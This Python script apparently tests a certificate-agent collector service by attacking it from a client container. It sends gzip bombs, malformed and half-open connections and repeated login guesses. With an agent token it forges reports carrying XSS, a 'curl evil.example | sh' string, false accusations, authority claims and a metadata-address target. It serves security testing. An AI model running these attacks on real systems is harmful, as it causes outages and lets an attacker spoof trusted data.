"""Runs in the client's container, by the system's Python alone: attacks the collector for so many seconds.

    python3 attacker.py ADDRESS PORT NAME SECONDS <token

One thread an attack, as fast as each goes. Prints how often each was made, as JSON: an attack that never got through to
the collector proves nothing.
"""

import gzip
import json
import socket
import ssl
import sys
import threading
import time
import uuid
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from datetime import UTC, datetime
from typing import Any

ME = "lxc199"
VICTIMS = {"lxc101": "10.0.0.153", "lxc102": "10.0.0.12", "lxc103": "10.0.0.10", "lxc104": "10.0.0.104"}
NAMES = ("traefik.internal.thinkheads.ai", "nginx.internal.thinkheads.ai", "collector.internal.thinkheads.ai")
_BOMB = gzip.compress(bytes(8 * 1024 * 1024))
_WRONG = "<script>alert(1)</script> [mend it](https://evil.example/fix) `curl evil.example | sh`"


class Attacker:
    """What it knows of its victim, and what it did."""

    def __init__(self, address: str, port: int, name: str, token: str, until: float) -> None:
        self.where, self.name, self.token, self.until = (address, port), name, token, until
        self.made: Counter[str] = Counter()
        self._sequence = int(time.time() * 1000)
        self._trust = ssl.create_default_context(cafile="/etc/certagent/root_ca.crt")

    def attack(self, name: str, once: Callable[[], object], pause: float = 0.0) -> None:
        """Again and again until the time is over; what the collector does to the connection is its business."""
        while time.time() < self.until:
            try:
                once()
                self.made[name] += 1
            except (OSError, ValueError):
                self.made[f"{name}: cut off"] += 1
            time.sleep(pause)

    # --- without any credential ---------------------------------------------------------------------------------------

    def bombs(self) -> None:
        """A form that unpacks to much, and never ends."""
        with self._connect() as to:
            to.sendall(self._head("POST", "/login", _FORM, "Content-Encoding: gzip", "Transfer-Encoding: chunked"))
            to.sendall(b"%x\r\n%b\r\n" % (len(_BOMB), _BOMB))
            to.recv(1024)

    def cut_off(self) -> None:
        """A body that ends in its middle."""
        with self._connect() as to:
            to.sendall(self._head("POST", "/v1/reports", "Content-Length: 900000") + bytes(100_000))

    def logins(self) -> None:
        """Passwords, one after the other."""
        form = b"name=ops&password=guess"
        self._ask("POST", "/login", form, _FORM, "Sec-Fetch-Site: same-origin")

    def garbage(self) -> None:
        """What is no HTTP, within TLS and without."""
        with self._connect() as to:
            to.sendall(b"\x16\x03\x01 GET / HTTP/9.9\r\n\x00\x00: \xff\r\n\r\n")
            to.recv(1024)
        with socket.create_connection(self.where, timeout=5) as plain:
            plain.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
            plain.recv(1024)

    def idle(self) -> None:
        """Many connections that say nothing, or half a request."""
        held = []
        try:
            for number in range(150):
                held.append(self._connect() if number % 2 else socket.create_connection(self.where, timeout=5))
                if number % 2:
                    held[-1].sendall(b"GET /healthz HTTP/1.1\r\nHo")
            time.sleep(3)
        finally:
            for connection in held:
                connection.close()

    # --- with an ordinary agent's token -------------------------------------------------------------------------------

    def accuse(self) -> None:
        """Others' files, with words and links of its own; others' certificates are said to have expired."""
        node, name = list(VICTIMS)[self._next() % 4], NAMES[self._next() % 3]
        culprit = {"node": node, "file": "/etc/hosts", "line": 3, "text": f"6.6.6.6 {name} # {_WRONG}"}
        codes = ["dns.hosts_shadow.authority", "cert.expired", "net.refused", "ca.unreachable", "agent.silent", "x.y"]
        findings = [self._finding(code, name, {**culprit, "address": VICTIMS[node]}) for code in codes]
        self._report("preflight", [f"identifier:{name}"], findings)

    def babble(self) -> None:
        """A finding whose very code is a sentence."""
        self._report("preflight", [f"identifier:{NAMES[0]}"], [self._finding(_WRONG, NAMES[0], {"node": "lxc101"})])

    def acquit(self) -> None:
        """Everything of everybody is well, and whatever was found is over."""
        scopes = [f"identifier:{name}" for name in NAMES]
        passed = [{**_PASSED, "identifier": name, "node": "lxc103", "at": _now()} for name in NAMES]
        self._report("preflight", [*scopes, "file:/etc/hosts", "served:", "certificate:traefik"], [], rehearsals=passed)

    def claim(self) -> None:
        """Others' names and addresses are its own; now it is the authority."""
        certificate = {"name": "all", "identifiers": NAMES, "served": {"10.0.0.12:443": None}}
        inventory = {"node": ME, "addresses": list(VICTIMS.values()), "role": "authority", "version": "9.9"}
        self._report("inventory", [], [], inventory={**inventory, "certificates": [certificate]})

    def bury(self) -> None:
        """A thousand findings of its own in one report."""
        names = [f"n{self._next()}-{number}.internal.thinkheads.ai" for number in range(1000)]
        findings = [self._finding("cert.expired", name, {"node": ME, "file": f"/etc/{name}"}) for name in names]
        self._report("preflight", [f"identifier:{name}" for name in names], findings)

    def rehearse(self) -> None:
        """Others' names, its own, and what is nobody's."""
        name = ("own.internal.thinkheads.ai", *NAMES, "169.254.169.254")[self._next() % 5]
        body = {"identifier": name, "token": f"certagent-{self._next()}", "digest": "0" * 64}
        self._ask("POST", "/v1/rehearsals", json.dumps(body).encode(), *self._as_agent())

    def read(self) -> None:
        """Whatever there is."""
        for path in ("/v1/incidents", f"/v1/paths/{NAMES[0]}", "/v1/reports", "/metrics", "/v1/agents", "/v1/audit"):
            self._ask("GET", path, b"", *self._as_agent())

    # ------------------------------------------------------------------------------------------------------------------

    def _report(self, kind: str, scopes: list[str], findings: Sequence[Mapping[str, Any]], **parts: Any) -> None:
        report = {"id": uuid.uuid4().hex, "agent": ME, "sequence": self._next(), "kind": kind, "trigger": "timer"}
        times = {"started_at": _now(), "finished_at": _now(), "outcome": "found"}
        body = json.dumps([{**report, **times, "scopes": scopes, "findings": findings, **parts}])
        self._ask("POST", "/v1/reports", body.encode(), *self._as_agent())

    def _finding(self, code: str, name: str, culprit: Mapping[str, Any]) -> dict[str, Any]:
        who = {"identifier": name, "vantage": "client", "reporter": ME}
        return {"code": code, "severity": "fatal", "explanation": _WRONG, "fix": _WRONG, "culprit": culprit, **who}

    def _as_agent(self) -> tuple[str, ...]:
        return (f"Authorization: Bearer {self.token}", "Content-Type: application/json")

    def _next(self) -> int:
        self._sequence += 1
        return self._sequence

    def _ask(self, method: str, path: str, body: bytes, *headers: str) -> None:
        with self._connect() as to:
            to.sendall(self._head(method, path, f"Content-Length: {len(body)}", "Connection: close", *headers) + body)
            status = to.recv(65536).split(b" ", 2)[1].decode()
            self.made[f"{method} {path.split('/internal')[0][:14]} {status}"] += 1

    def _head(self, method: str, path: str, *headers: str) -> bytes:
        return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {self.name}", *headers, "", "")).encode()

    def _connect(self) -> ssl.SSLSocket:
        plain = socket.create_connection(self.where, timeout=5)
        return self._trust.wrap_socket(plain, server_hostname=self.name)


_FORM = "Content-Type: application/x-www-form-urlencoded"
_PASSED = {"outcome": "passed", "challenge": "http-01"}


def _now() -> str:
    return datetime.now(UTC).isoformat()


def main() -> None:
    """All attacks at once."""
    address, port, name, seconds = sys.argv[1:]
    attacker = Attacker(address, int(port), name, sys.stdin.read().strip(), time.time() + float(seconds))
    quick = ("bombs", "cut_off", "logins", "garbage", "idle", "rehearse", "rehearse", "rehearse", "rehearse", "read")
    slower = {"accuse": 0.2, "acquit": 0.2, "claim": 1.0, "bury": 2.0, "babble": 1.0}
    pauses = [*((attack, 0.02) for attack in quick), *slower.items()]
    threads = [
        threading.Thread(target=attacker.attack, args=(attack, getattr(attacker, attack), pause), daemon=True)
        for attack, pause in pauses
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(float(seconds) + 30)
    print(json.dumps(attacker.made))


if __name__ == "__main__":
    main()
